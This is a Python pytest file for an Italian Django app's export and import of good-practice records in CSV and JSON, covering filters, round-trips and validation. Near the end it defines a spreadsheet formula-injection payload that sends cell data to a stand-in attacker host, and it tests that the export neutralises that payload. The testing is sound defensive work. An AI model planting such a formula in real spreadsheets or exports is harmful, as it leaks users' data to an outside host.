import csv
import datetime
import io
import json

import pytest
from django.core.management import CommandError, call_command

from buonepratiche.models import BuonaPraticaPage, FonteFinanziamento, Metodologia
from buonepratiche.services.dati_aperti import CAMPI
from buonepratiche.tests.factories import (
    AdozioneFactory,
    BuonaPraticaPageFactory,
    BuonePraticheIndexPageFactory,
    vocabolario,
)
from cop.tests.factories import TemaFactory, ZonaFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def indice(home_page):
    return BuonePraticheIndexPageFactory(parent=home_page)


@pytest.fixture
def pratiche(indice):
    pisa, lucca = ZonaFactory(slug="pisana"), ZonaFactory(slug="piana-di-lucca")
    tema = TemaFactory(slug="poverta")
    prima = BuonaPraticaPageFactory(
        parent=indice,
        title='Budget di Salute, «persone» al centro; con | e "virgolette"',
        zone=[pisa, lucca],
        temi=[tema],
        metodologie=[vocabolario(Metodologia, "budget-di-salute")],
        fonti_finanziamento=[vocabolario(FonteFinanziamento, "pnrr")],
        soggetti=[
            {"nome": "SdS Pisana", "tipo": "sds", "ruolo": "promotore"},
            {"nome": "Coop, «Il Ponte»", "tipo": "cooperativa", "ruolo": "partner"},
        ],
        indicatori=[{"valore": "616", "descrizione": "progetti finanziati"}],
        tags=["casa", "lavoro di rete"],
        data_inizio=datetime.date(2021, 3, 1),
        data_fine=datetime.date(2023, 12, 31),
        stato="conclusa",
        risultati="<p>Righe\nsu più righe, con àccenti</p>",
    )
    BuonaPraticaPage.objects.filter(pk=prima.pk).update(validata=True)
    AdozioneFactory(pratica=prima, zona_adottante=ZonaFactory(slug="fiorentina-nord-ovest"))
    seconda = BuonaPraticaPageFactory(parent=indice, title="Seconda", zone=[lucca], temi=[tema], data_inizio=None)
    return [prima, seconda]


def esporta(client, indice, formato, query=""):
    risposta = client.get(f"{indice.url}esporta/{formato}/{query}")
    assert risposta.status_code == 200
    return risposta


def test_csv_export_has_a_header_row_and_iso_dates(client, indice, pratiche):
    risposta = esporta(client, indice, "csv", "?ordina=titolo")
    assert risposta["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in risposta["Content-Disposition"]
    righe = list(csv.DictReader(io.StringIO(risposta.content.decode("utf-8"))))
    assert list(righe[0]) == CAMPI
    assert [r["titolo"] for r in righe] == [pratiche[0].title, "Seconda"]
    assert righe[0]["data_inizio"] == "2021-03-01"
    assert datetime.datetime.fromisoformat(righe[0]["pubblicata_il"]).tzinfo is not None
    assert righe[0]["zone"] == "pisana|piana-di-lucca" or righe[0]["zone"] == "piana-di-lucca|pisana"
    assert "contatto" not in risposta.content.decode()
    assert pratiche[0].contatto_email not in risposta.content.decode()


def test_json_export_follows_the_filters(client, indice, pratiche):
    dati = json.loads(esporta(client, indice, "json", "?zona=pisana").content)
    assert dati["campi"] == CAMPI
    assert [p["slug"] for p in dati["pratiche"]] == [pratiche[0].slug]
    assert dati["pratiche"][0]["validata"] is True
    assert dati["pratiche"][0]["adozioni"][0]["zona"] == "fiorentina-nord-ovest"


def test_export_of_a_zone_listing_links_to_the_filtered_export(client, indice, pratiche):
    risposta = client.get(indice.url + "zona/pisana/")
    assert f"{indice.url}esporta/csv/?zona=pisana" in risposta.content.decode()


def test_unknown_format_is_a_404(client, indice, pratiche):
    assert client.get(f"{indice.url}esporta/xls/").status_code == 404


def _pulisci(indice):
    BuonaPraticaPage.objects.child_of(indice).delete()
    assert not BuonaPraticaPage.objects.exists()


@pytest.mark.parametrize("formato", ["csv", "json"])
def test_export_import_export_round_trip(client, indice, pratiche, tmp_path, formato):
    prima = esporta(client, indice, formato).content
    file = tmp_path / f"pratiche.{formato}"
    file.write_bytes(prima)
    _pulisci(indice)
    # a fresh instance: the editor-added vocabulary entry does not exist yet
    call_command("importa_pratiche", str(file))
    dopo = esporta(client, indice, formato).content
    assert dopo.decode("utf-8") == prima.decode("utf-8")
    assert BuonaPraticaPage.objects.live().count() == 2


def test_import_updates_by_slug_and_is_idempotent(client, indice, pratiche, tmp_path):
    file = tmp_path / "p.json"
    file.write_bytes(esporta(client, indice, "json").content)
    call_command("importa_pratiche", str(file))
    assert BuonaPraticaPage.objects.count() == 2
    assert esporta(client, indice, "json").content == file.read_bytes()


def test_import_with_an_unknown_zone_changes_nothing(client, indice, pratiche, tmp_path):
    dati = json.loads(esporta(client, indice, "json").content)
    dati["pratiche"][1]["zone"] = ["zona-che-non-esiste"]
    dati["pratiche"][0]["titolo"] = "Cambiato"
    file = tmp_path / "p.json"
    file.write_text(json.dumps(dati), encoding="utf-8")
    with pytest.raises(CommandError, match="zona-che-non-esiste"):
        call_command("importa_pratiche", str(file))
    assert not BuonaPraticaPage.objects.filter(title="Cambiato").exists()


def test_import_creates_missing_vocabulary_entries(client, indice, pratiche, tmp_path):
    dati = json.loads(esporta(client, indice, "json").content)
    dati["pratiche"][1]["metodologie"] = ["peer-education"]
    file = tmp_path / "p.json"
    file.write_text(json.dumps(dati), encoding="utf-8")
    out = io.StringIO()
    call_command("importa_pratiche", str(file), stdout=out)
    assert "metodologie:peer-education" in out.getvalue()
    assert Metodologia.objects.filter(slug="peer-education").exists()


FORMULA = '=HYPERLINK("http://attaccante.example/?d="&A1,"Clicca qui")'


def test_csv_export_writes_a_title_that_is_a_formula_as_text(client, indice, pratiche):
    BuonaPraticaPage.objects.filter(pk=pratiche[1].pk).update(title=FORMULA, abstract="+39 055 123456")

    risposta = esporta(client, indice, "csv", "?ordina=titolo")

    righe = {r["slug"]: r for r in csv.DictReader(io.StringIO(risposta.content.decode("utf-8")))}
    riga = righe[pratiche[1].slug]
    # A spreadsheet shows a cell starting with an apostrophe as text: no link, no formula runs.
    assert riga["titolo"] == "'" + FORMULA
    assert riga["abstract"] == "'+39 055 123456"
    assert not any(valore.startswith(("=", "+", "-", "@")) for r in righe.values() for valore in r.values())


def test_a_formula_title_comes_back_unchanged_from_export_and_import(client, indice, pratiche, tmp_path):
    BuonaPraticaPage.objects.filter(pk=pratiche[1].pk).update(title=FORMULA)
    file = tmp_path / "pratiche.csv"
    file.write_bytes(esporta(client, indice, "csv").content)
    _pulisci(indice)

    call_command("importa_pratiche", str(file))

    assert BuonaPraticaPage.objects.get(slug=pratiche[1].slug).title == FORMULA
